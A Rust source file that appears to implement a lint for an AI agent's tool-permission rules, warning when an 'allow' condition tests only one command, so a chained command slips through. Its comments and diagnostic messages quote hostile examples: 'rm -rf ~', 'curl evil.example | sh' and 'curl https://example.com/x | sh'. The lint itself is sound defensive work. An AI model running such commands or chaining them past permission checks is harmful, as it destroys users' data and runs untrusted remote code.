//! Finds an `allow` whose condition tests a part of a call, and so allows the untested rest: `git status; rm -rf ~`
//! also runs `git status`, and `touch docs/a; curl evil.example | sh` also writes below `docs`.

use super::calls::{MissingValueReading, SelectedCall, SelectedCalls};
use super::{FindingSink, Lint, SourceTexts};
use crate::diagnostic::{Code, Diagnostic};
use crate::ruleset::{CommandTest, Condition, ConditionExpr, DerivedField, Rule, ValueReference, ValueTest};
use crate::schema::TOOLS;
use crate::syntax::ast::FileVerb;

pub(super) const LINT: Lint = Lint { codes: &[Code::ALLOW_ON_PART], check };

/// Reports the first test that leaves a part of a selected call untested.
fn check(written: &SourceTexts<'_>, rule: &Rule, findings: &mut FindingSink) {
    if !rule.can_allow {
        return;
    }
    let calls = SelectedCalls::from_rule(rule);
    let part_of_call = |call: &SelectedCall| {
        let clauses = [(&rule.when, false), (&rule.unless, true)];
        let clauses = clauses.into_iter().filter_map(|(clause, negated)| Some((clause.as_ref()?, negated)));
        let clauses: Vec<(&Condition, bool)> = clauses.collect();
        // One clause that takes the whole call into account is enough.
        let is_fully_tested = clauses.iter().any(|(clause, negated)| is_covered(clause, *negated, Some(call)));
        if is_fully_tested {
            None
        } else {
            clauses.iter().find_map(|(clause, negated)| partial_test(clause, *negated, Some(call)))
        }
    };
    let part_for_unknown_tool = || {
        let when = rule.when.as_ref().filter(|when| calls.has_unknown_tool && !is_covered(when, false, None))?;
        partial_test(when, false, None).filter(|part| matches!(part.kind, ConditionExpr::Command(_)))
    };
    if let Some(part) =
        calls.known.iter().filter(|call| call.can_run_commands()).find_map(part_of_call).or_else(part_for_unknown_tool)
    {
        findings.push(finding(written, part));
    }
}

/// Whether a condition (or, with `is_negated`, its negation) takes every part of a call into account, or is never true
/// for the call. Without a call, the tool is unknown.
fn is_covered(condition: &Condition, is_negated: bool, call: Option<&SelectedCall>) -> bool {
    if call.is_some_and(|call| call.evaluate(condition, MissingValueReading::AsHook) == Some(is_negated)) {
        return true;
    }
    match (&condition.kind, is_negated) {
        (ConditionExpr::And(parts), false) | (ConditionExpr::Or(parts), true) => {
            parts.iter().any(|part| is_covered(part, is_negated, call))
        }
        (ConditionExpr::Or(parts), false) | (ConditionExpr::And(parts), true) => {
            parts.iter().all(|part| is_covered(part, is_negated, call))
        }
        (ConditionExpr::Not(inner), _) => is_covered(inner, !is_negated, call),
        (ConditionExpr::Certain(inner), _) => is_covered(inner, is_negated, call),
        (ConditionExpr::Def(inner), _) => is_covered(inner, is_negated, call),
        (ConditionExpr::Command(CommandTest::OnlyRuns { .. }), false) => true,
        (ConditionExpr::Compare { source: ValueReference::Derived(DerivedField::Command), negated, test, .. }, _) => {
            *negated == is_negated && matches!(test, ValueTest::Equal(_) | ValueTest::In(_))
        }
        _ => false,
    }
}

/// Returns the first test in a condition that leaves a part of a call untested.
fn partial_test<'c>(condition: &'c Condition, is_negated: bool, call: Option<&SelectedCall>) -> Option<&'c Condition> {
    if is_covered(condition, is_negated, call) {
        return None;
    }
    match (&condition.kind, is_negated) {
        (ConditionExpr::And(parts) | ConditionExpr::Or(parts), _) => {
            parts.iter().find_map(|inner| partial_test(inner, is_negated, call))
        }
        (ConditionExpr::Not(inner), _) => partial_test(inner, !is_negated, call),
        (ConditionExpr::Certain(inner), _) => partial_test(inner, is_negated, call),
        (ConditionExpr::Def(inner), _) => partial_test(inner, is_negated, call),
        (ConditionExpr::Command(CommandTest::Runs { .. } | CommandTest::Pipes { .. }), false)
        | (ConditionExpr::Touches { .. } | ConditionExpr::TouchesFilled { .. } | ConditionExpr::Connects(_), _) => {
            Some(condition)
        }
        _ => None,
    }
}

/// Returns the finding about the test that leaves a part of a call untested.
fn finding(written: &SourceTexts<'_>, part: &Condition) -> Diagnostic {
    let only = "add `only runs [\"ls *\", …]`, which applies to the whole text";
    match &part.kind {
        ConditionExpr::Command(test) => {
            let finding = Diagnostic::new(Code::ALLOW_ON_PART, "an `allow` that tests one command")
                .label(part.span, "allows every other command of the text too")
                .help("write `only runs`, which applies to the whole text");
            let text = written.text(part.span);
            match test {
                CommandTest::Runs { filter: None, .. } if text.starts_with("runs ") => {
                    finding.fix_that_changes(part.span, format!("only {text}"))
                }
                _ => finding,
            }
        }
        ConditionExpr::Touches { verb, .. } | ConditionExpr::TouchesFilled { verb, .. } => {
            let word = verb.keyword();
            let tools = file_tools(*verb);
            let help = match tools.is_empty() {
                true => only.to_owned(),
                false => format!("select the file tools: `on PreToolUse({})`; or {only}", tools.join("|")),
            };
            Diagnostic::new(Code::ALLOW_ON_PART, format!("an `allow` that looks at nothing but what a call {word}"))
                .label(part.span, "allows the whole text: `…; curl https://example.com/x | sh` too")
                .help(help)
        }
        _ => Diagnostic::new(Code::ALLOW_ON_PART, "an `allow` that looks at nothing but whom a call talks to")
            .label(part.span, "allows the whole text: `…; rm -rf src` too")
            .help(format!("select the tools: `on PreToolUse(WebFetch)`; or {only}")),
    }
}

/// Returns the tools that access one file in the way of the verb, and run no command.
fn file_tools(verb: FileVerb) -> Vec<&'static str> {
    let is_file_tool = |tool: &&crate::schema::ToolSpec| {
        // Other tools may do more with a call than access one file.
        let [file] = tool.files else { return false };
        let has_access = match verb {
            FileVerb::Reads => file.reads && !file.writes,
            FileVerb::Writes => file.writes,
            FileVerb::Deletes | FileVerb::Sends => false,
        };
        has_access && tool.example_text == Some("file_path") && tool.command.is_none()
    };
    TOOLS.iter().filter(is_file_tool).map(|tool| tool.name).collect()
}
